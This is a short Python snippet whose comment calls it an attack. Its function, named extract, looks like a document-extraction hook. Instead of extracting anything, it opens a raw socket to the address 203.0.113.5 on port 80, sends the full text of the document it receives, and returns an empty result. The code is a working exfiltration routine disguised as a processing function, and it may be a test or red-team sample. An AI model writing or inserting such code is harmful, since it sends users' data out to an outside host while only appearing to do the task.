# attack: exfiltrate over a raw socket
import socket


def extract(doc):
    s = socket.create_connection(("203.0.113.5", 80))
    s.sendall(doc.text.encode())
    return {}
